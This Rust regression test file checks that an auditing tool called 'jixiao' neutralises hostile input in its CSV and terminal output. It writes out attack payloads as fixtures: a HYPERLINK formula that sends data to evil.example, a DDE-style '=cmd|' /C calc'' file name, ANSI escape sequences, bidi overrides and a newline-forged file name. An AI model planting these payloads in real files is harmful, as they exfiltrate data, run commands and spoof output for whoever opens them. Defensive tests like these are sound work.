//! Regression tests of the output side of the hardening issue (#17): what
//! the dataset and the terminal show of untrusted text, writes that cannot
//! half-happen, and bounded output.
//!
//! Every input is made here: small `.txt` reports (the text layer of a
//! `.txt` is its text, so a sentence reaches the rules as written) with
//! hostile sentences and file names.

use serde_json::Value;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// One sentence that SCR001 flags (a score above its points).
const SCORE: &str = "采购政策效能分值1分，得分9.99分";

/// A fresh scratch folder for one test.
fn scratch(name: &str) -> PathBuf {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("hardening-{name}"));
    let _ = fs::remove_dir_all(&dir);
    fs::create_dir_all(&dir).unwrap();
    dir
}

/// Writes `text` at `root/rel`, creating its folders.
fn write(root: &Path, rel: &str, text: &str) -> PathBuf {
    let path = root.join(rel);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(&path, text).unwrap();
    path
}

/// Runs `jixiao ARGS…` in `root`.
fn jixiao(root: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_jixiao"))
        .args(args)
        .current_dir(root)
        .output()
        .expect("the jixiao binary runs")
}

fn ok(output: Output) -> Output {
    assert_eq!(
        output.status.code(),
        Some(0),
        "stderr: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    output
}

fn records(out: &Path) -> Vec<Value> {
    fs::read_to_string(out.join("reports.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).expect("each line is one JSON record"))
        .collect()
}

/// The rows of `findings.csv` after its header, as a spreadsheet reads
/// them.
fn csv_rows(out: &Path) -> Vec<Vec<String>> {
    let bytes = fs::read(out.join("findings.csv")).unwrap();
    let body = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap();
    csv::Reader::from_reader(body)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// Whether a character would act on a terminal or reorder its line.
fn acts_on_a_terminal(c: char) -> bool {
    (c.is_control() && c != '\n') || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

// Defect 9: spreadsheet formulas from a PDF and from a file name.
#[test]
fn no_findings_csv_cell_is_a_formula() {
    let root = scratch("csv");
    let formula = format!("=HYPERLINK(\"http://evil.example/?q=\"&\"{SCORE}\",\"查看\")");
    // Run inside the folder, as the QA campaign did: the file cells start
    // with the hostile names.
    write(&root, "=cmd|' /C calc'!A0.txt", &format!("{formula}\n"));
    write(&root, "+plus.txt", &format!("-{SCORE}\n"));
    write(&root, "@at.txt", &format!("@{SCORE}\n"));
    write(&root, "-minus.txt", &format!("\t{SCORE}\n"));
    ok(jixiao(
        &root,
        &[
            "audit",
            "=cmd|' /C calc'!A0.txt",
            "+plus.txt",
            "@at.txt",
            "--out",
            "out",
            "--",
            "-minus.txt",
        ],
    ));
    let rows = csv_rows(&root.join("out"));
    assert_eq!(rows.len(), 4, "{rows:?}");
    for row in &rows {
        for cell in row {
            assert!(
                !cell
                    .trim_start()
                    .starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula cell: {cell:?} in {row:?}"
            );
        }
    }
    let quote = |file: &str| &rows.iter().find(|r| r[0] == file).unwrap()[7];
    assert_eq!(quote("'=cmd|' /C calc'!A0.txt"), &format!("'{formula}"));
    assert_eq!(quote("'+plus.txt"), &format!("'-{SCORE}"));
    assert_eq!(quote("'@at.txt"), &format!("'@{SCORE}"));
    assert!(rows.iter().any(|r| r[0] == "'-minus.txt"), "{rows:?}");
    // The dataset keeps the text exactly.
    let quotes: Vec<String> = records(&root.join("out"))
        .iter()
        .map(|r| {
            r["findings"][0]["evidence"][0]["quote"]
                .as_str()
                .unwrap()
                .into()
        })
        .collect();
    assert!(quotes.contains(&formula), "{quotes:?}");
}

// Defect 10: terminal escapes from a PDF's text and from a file name.
#[test]
fn the_terminal_never_gets_a_control_character_from_a_file() {
    let root = scratch("terminal");
    write(
        &root,
        "in/\u{1b}]0;PWNED\u{7}.txt",
        &format!("\u{1b}[2K\u{1b}[1A\u{1b}[2K{SCORE}；\n"),
    );
    write(
        &root,
        "in/x.txt\n  失败 ING001 forged line.txt",
        &format!("{SCORE}\u{202e}\r\u{8}；\n"),
    );
    let shown = ok(jixiao(&root, &["audit", "in"]));
    let text = String::from_utf8(shown.stdout).unwrap();
    assert!(!text.chars().any(acts_on_a_terminal), "{text:?}");
    assert!(text.contains("in/\\u{1b}]0;PWNED\\u{7}.txt\n"), "{text}");
    assert!(
        text.contains("「\\u{1b}[2K\\u{1b}[1A\\u{1b}[2K采购"),
        "{text}"
    );
    assert!(
        text.contains("in/x.txt\\u{a}  失败 ING001 forged line.txt\n"),
        "{text}"
    );
    assert!(!text.lines().any(|l| l.starts_with("  失败")), "{text}");

    // `--json` shows the same text as JSON escapes.
    let one = ok(jixiao(
        &root,
        &["audit", "--json", "in/x.txt\n  失败 ING001 forged line.txt"],
    ));
    let json = String::from_utf8(one.stdout).unwrap();
    assert!(!json.chars().any(acts_on_a_terminal), "{json:?}");
    assert!(json.contains("9.99分\\u202e\\b"), "{json}");
    // And the messages on stderr name the file escaped too.
    let missing = jixiao(&root, &["audit", "in/\u{1b}[2Jmissing.pdf"]);
    assert_eq!(missing.status.code(), Some(2));
    let err = String::from_utf8(missing.stderr).unwrap();
    assert!(!err.chars().any(acts_on_a_terminal), "{err:?}");
    assert!(err.contains("\\u{1b}[2Jmissing.pdf"), "{err}");
}
